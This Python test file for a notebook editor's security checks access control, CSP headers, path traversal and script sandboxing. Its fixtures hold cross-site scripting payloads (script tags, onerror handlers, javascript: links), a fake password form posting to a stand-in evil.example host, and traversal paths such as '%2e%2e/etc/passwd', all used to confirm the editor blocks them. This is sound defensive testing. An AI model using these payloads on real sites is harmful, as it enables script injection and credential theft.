"""Attacks on the editor: who may load it, what it tells whom, and scripts hidden in
markdown and outputs, which must never run in Tandem's origin."""

from __future__ import annotations

import base64
from pathlib import Path
from typing import Any

import httpx
import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

from tandem.testing import TandemServer, YPeer
from tests.browser.test_editor import no_page_errors, open_guest, open_owner, server_sources
from tests.conftest import write_notebook
from tests.eventually import eventually
from tests.handlers.test_sharing import Guest, share

PNG = base64.b64encode(
    bytes.fromhex(
        "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
        "1f15c4890000000d49444154789c6360f8cfc0f01f0005000201b4d6b7d60000000049454e44ae426082"
    )
).decode()

HTML_ATTACK = """<p id="frame-ok">framed output</p><script>
document.body.dataset.ran = "yes";
try { window.parent.tandemPwned = 1; document.body.dataset.parent = "reached"; }
catch (e) { document.body.dataset.parent = "blocked"; }
try { document.body.dataset.cookie = "read:" + document.cookie; }
catch (e) { document.body.dataset.cookie = "blocked"; }
try { document.body.dataset.storage = String(localStorage.length); }
catch (e) { document.body.dataset.storage = "blocked"; }
fetch("/api/contents").then(
  () => { document.body.dataset.fetch = "reached"; },
  () => { document.body.dataset.fetch = "blocked"; });
parent.postMessage({type: "tandem-output", html: "<img src=x onerror=alert(1)>"}, "*");
</script><div style="height: 150px">tall</div>"""

JS_ATTACK = "document.body.dataset.js = 'ran'; try { window.top.tandemPwnedJs = 1 } catch (e) { document.body.dataset.top = 'blocked' }"

SVG_ATTACK = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20" onload="window.tandemSvg=1">'
    '<script>window.tandemSvg=2</script><rect width="40" height="20" fill="#2ca02c"/></svg>'
)

MARKDOWN_ATTACK = """# Hello <img src=x onerror="window.tandemXss=1">

<script>window.tandemXss = 2</script>

<style>body { display: none }</style>

<form action="https://evil.example/"><input name="password"><button>Log in</button></form>

[click me](javascript:window.tandemXss=3) and <a href="javascript:window.tandemXss=4">this</a>

<iframe src="javascript:window.parent.tandemXss=5"></iframe>

<svg><a href="javascript:window.tandemXss=6"><text>svg link</text></a></svg>

![external](https://evil.example/track.png)
"""


def attack_notebook(path: Path) -> None:
    cells = [
        new_markdown_cell(MARKDOWN_ATTACK),
        new_code_cell(
            "show()",
            outputs=[
                new_output("display_data", data={"text/html": HTML_ATTACK, "text/plain": "<html>"}),
                new_output("display_data", data={"application/javascript": JS_ATTACK}),
                new_output("display_data", data={"image/svg+xml": SVG_ATTACK}),
                new_output("display_data", data={"image/png": PNG}),
                new_output(
                    "stream", name="stdout", text="plain \x1b[32mgreen\x1b[0m <b>not bold</b>\n"
                ),
                new_output(
                    "error",
                    ename="ZeroDivisionError",
                    evalue="division by zero",
                    traceback=["\x1b[0;31mZeroDivisionError\x1b[0m: division by zero"],
                ),
                new_output(
                    "display_data",
                    data={"text/markdown": "**md** output <img src=x onerror=window.tandemXss=7>"},
                ),
                new_output("display_data", data={"text/latex": "$$\\frac{a}{b}$$"}),
            ],
            execution_count=1,
        ),
    ]
    nbformat.write(new_notebook(cells=cells), path)


async def test_shell_api_and_static_files_by_principal(server: TandemServer, root: Path) -> None:
    write_notebook(root / "private.ipynb")
    write_notebook(root / "shared" / "a.ipynb")
    (root / "shared" / "text.md").write_text("# not a notebook\n")
    async with httpx.AsyncClient(base_url=server.http_url, follow_redirects=False) as anonymous:
        # Nobody: the owner's login, never the page.
        response = await anonymous.get("/tandem/notebook/demo.ipynb")
        assert response.status_code == 302 and "/login" in response.headers["Location"]
        assert (await anonymous.get("/tandem/api/me/demo.ipynb")).status_code == 403
        # The bundle and the output sandbox are public (they hold no data).
        static = await anonymous.get("/tandem/static/editor.js")
        assert static.status_code == 200 and static.headers["X-Content-Type-Options"] == "nosniff"
        assert (await anonymous.get("/tandem/static/../../tandem/app.py")).status_code in (403, 404)
        assert (await anonymous.get("/tandem/static/%2e%2e/app.py")).status_code in (403, 404)
        frame = await anonymous.get("/tandem/output-frame")
        assert frame.status_code == 200
        assert "sandbox allow-scripts" in frame.headers["Content-Security-Policy"]
        assert (
            "connect-src" not in frame.headers["Content-Security-Policy"]
        )  # default-src 'none' covers it
        assert "default-src 'none'" in frame.headers["Content-Security-Policy"]

    # The owner: the shell, under a strict CSP, with identity and role.
    status, me = await server.arequest("GET", "/tandem/api/me/demo.ipynb")
    assert status == 200 and me["role"] == "owner" and me["can_edit"] and me["can_run"]
    assert set(me) >= {"username", "name", "color", "role", "can_edit", "can_run"}
    async with httpx.AsyncClient(base_url=server.http_url, headers=server.headers) as owner:
        shell = await owner.get("/tandem/notebook/demo.ipynb")
        assert shell.status_code == 200
        csp = shell.headers["Content-Security-Policy"]
        assert (
            "script-src 'self'" in csp and "default-src 'none'" in csp and "unsafe-eval" not in csp
        )
        script_src = next(d for d in csp.split(";") if d.strip().startswith("script-src"))
        assert "unsafe-inline" not in script_src
        assert "connect-src 'self'" in csp and "frame-ancestors 'none'" in csp
        assert '<script type="module" src="/tandem/static/editor.js?v=' in shell.text
        assert "_xsrf" in shell.cookies
        for missing in ("nope.ipynb", "notes.md", "../demo.ipynb", "%2e%2e/etc/passwd", "shared"):
            assert (await owner.get(f"/tandem/notebook/{missing}")).status_code == 404, missing

    # A view guest of one folder: their role; everything else looks exactly like "missing".
    guest = Guest(server)
    try:
        invitation = await share(server, "shared", role="view")
        await guest.join(invitation["link"], name="Viewer <script>alert(1)</script>")
        me = (await guest.http.get("/tandem/api/me/shared/a.ipynb")).json()
        assert me["role"] == "view" and not me["can_edit"] and not me["can_run"]
        page = await guest.http.get("/tandem/notebook/shared/a.ipynb")
        assert page.status_code == 200
        # The name is data inside JSON, never markup.
        assert "<script>alert(1)" not in page.text and "\\u003cscript\\u003e" in page.text
        not_shared = await guest.http.get("/tandem/notebook/private.ipynb")
        missing = await guest.http.get("/tandem/notebook/shared/missing.ipynb")
        not_a_notebook = await guest.http.get("/tandem/notebook/shared/text.md")
        assert not_shared.status_code == missing.status_code == not_a_notebook.status_code == 404
        assert not_shared.text == missing.text == not_a_notebook.text
        for path in (
            "private.ipynb",
            "shared/missing.ipynb",
            "%2e%2e/private.ipynb",
            "shared/%2e%2e/private.ipynb",
        ):
            response = await guest.http.get(f"/tandem/api/me/{path}")
            assert response.status_code == 404, path
        # A guest on the owner's API stays refused.
        assert (await guest.http.get("/tandem/api/grants")).status_code == 403
    finally:
        await guest.close()


async def test_scripts_in_markdown_and_outputs_never_run_in_tandems_origin(
    server: TandemServer, browser: Any, root: Path
) -> None:
    attack_notebook(root / "attack.ipynb")
    page = await open_owner(browser, server, "attack.ipynb")
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    await page.wait_for_selector(".tc-cell >> nth=0 >> .tc-rendered h1")
    frames = page.locator("iframe.tc-output-frame")
    await frames.nth(1).wait_for(state="attached")

    # The HTML output's script ran -- inside its sandbox, an opaque origin. An attached
    # iframe starts at about:blank: wait until both have loaded the output frame's page.
    async def both_output_frames() -> list[Any]:
        loaded = [f for f in page.frames if f.url.endswith("/tandem/output-frame")]
        assert len(loaded) == 2, [f.url for f in page.frames]
        return loaded

    output_frames = await eventually(both_output_frames)

    async def the_html_frame() -> Any:
        ran = [f for f in output_frames if await _has(f, "#frame-ok")]
        assert len(ran) == 1, len(ran)
        return ran[0]

    html_frame = await eventually(the_html_frame)
    await html_frame.wait_for_function(
        "() => document.body.dataset.fetch !== undefined", timeout=10_000
    )
    data = await html_frame.evaluate("() => ({...document.body.dataset, origin: window.origin})")
    assert data == {
        "ran": "yes",
        "parent": "blocked",
        "cookie": "blocked",
        "storage": "blocked",
        "fetch": "blocked",
        "origin": "null",
    }, data
    js_frame = next(f for f in output_frames if f is not html_frame)
    await js_frame.wait_for_function("() => document.body.dataset.js === 'ran'", timeout=10_000)
    assert await js_frame.evaluate("() => document.body.dataset.top") == "blocked"
    sandbox = await frames.evaluate_all("fs => fs.map(f => f.getAttribute('sandbox'))")
    assert sandbox == ["allow-scripts", "allow-scripts"]
    # Sized to its content (150px of it), within bounds.
    await page.wait_for_function(
        "() => parseInt(document.querySelector('iframe.tc-output-frame').style.height) >= 150"
    )

    # Nothing ran in Tandem's page: no markdown handler, link, SVG or frame script.
    leaked = await page.evaluate(
        "() => [window.tandemXss, window.tandemPwned, window.tandemPwnedJs, window.tandemSvg]"
    )
    assert leaked == [None, None, None, None]
    for selector in (
        "[onerror]",
        "[onload]",
        "script",
        "a[href^='javascript']",
        "form",
        "input[name=password]",
        "style",
        ".tc-rendered iframe",
        "img[src^='https://']",
    ):
        assert await page.locator(f".tc-notebook {selector}").count() == 0, selector
    assert await page.locator("body").is_visible()  # the <style> never reached the page
    await page.locator(
        ".tc-rendered a:has-text('click me')"
    ).click()  # a link without its javascript:
    assert await page.evaluate("() => window.tandemXss") is None
    assert dialogs == []

    # The other outputs: sanitized SVG and PNG as images, ANSI as classes, LaTeX by KaTeX.
    images = page.locator(".tc-output-image")
    sources = await images.evaluate_all("imgs => imgs.map(i => i.src)")
    assert len(sources) == 2
    assert (
        sources[0].startswith("data:image/svg+xml;charset=utf-8,")
        and sources[1] == f"data:image/png;base64,{PNG}"
    )
    await page.wait_for_function(
        "() => [...document.querySelectorAll('.tc-output-image')].every(i => i.complete && i.naturalWidth > 0)"
    )
    assert "<script" not in await page.locator(".tc-output-image").first.get_attribute("src")
    assert await page.locator(".tc-output--stdout .ansi-green-fg").text_content() == "green"
    assert "<b>not bold</b>" in await page.locator(".tc-output--stdout").text_content()
    assert await page.locator(".tc-output--error .ansi-red-fg").count() == 1
    assert await page.locator(".tc-output-markdown strong").text_content() == "md"
    assert await page.locator(".tc-output-latex .katex-display").count() == 1
    no_page_errors(page)


async def _has(frame: Any, selector: str) -> bool:
    return await frame.locator(selector).count() > 0


async def test_a_view_guest_cannot_change_anything(server: TandemServer, browser: Any) -> None:
    before = await server_sources(server)
    page, _ = await open_guest(browser, server, role="view", name="Vera Viewer")
    assert await page.locator(".tc-role").text_content() == "View only"
    assert await page.locator(".tc-toolbar").is_hidden()
    assert await page.locator(".tc-run-cell:visible, .tc-run:visible").count() == 0
    async with await YPeer.open(server, "demo.ipynb") as witness:
        # Typing into a cell's editor changes nothing (it is read-only) ...
        target = page.locator(".tc-cell").nth(1)
        await target.locator(".cm-content").click()
        await page.keyboard.type("vandalism")
        await page.keyboard.press("Enter")
        await page.keyboard.press("Backspace")
        await page.keyboard.press("Control+Shift+Minus")  # split
        # ... nor do command-mode keys (insert, delete, change type, merge, move, undo) ...
        await page.keyboard.press("Escape")
        for key in (
            "a",
            "b",
            "d",
            "d",
            "m",
            "y",
            "r",
            "Shift+M",
            "z",
            "Control+Shift+ArrowDown",
            "Control+s",
        ):
            await page.keyboard.press(key)
        # ... nor double-clicking markdown.
        await page.locator(".tc-cell").nth(0).dblclick()
        assert await page.locator(".tc-cell >> nth=0 >> .cm-editor").count() == 0
        assert await page.locator(".tc-cell").count() == 3
        assert "vandalism" not in await page.locator(".tc-notebook").text_content()
        # Anything the page sent reached the server before this presence change (one socket,
        # in order): once the witness sees the viewer in cell 2, compare documents.
        await page.locator(".tc-cell").nth(2).click(position={"x": 20, "y": 10})
        cell_2 = await page.locator(".tc-cell").nth(2).get_attribute("data-cell-id")
        await eventually(
            lambda: any((s or {}).get("cell") == cell_2 for s in witness.awareness.values())
        )
        assert [str(c["source"]) for c in witness.notebook.ycells] == before
    assert await server_sources(server) == before
    no_page_errors(page)
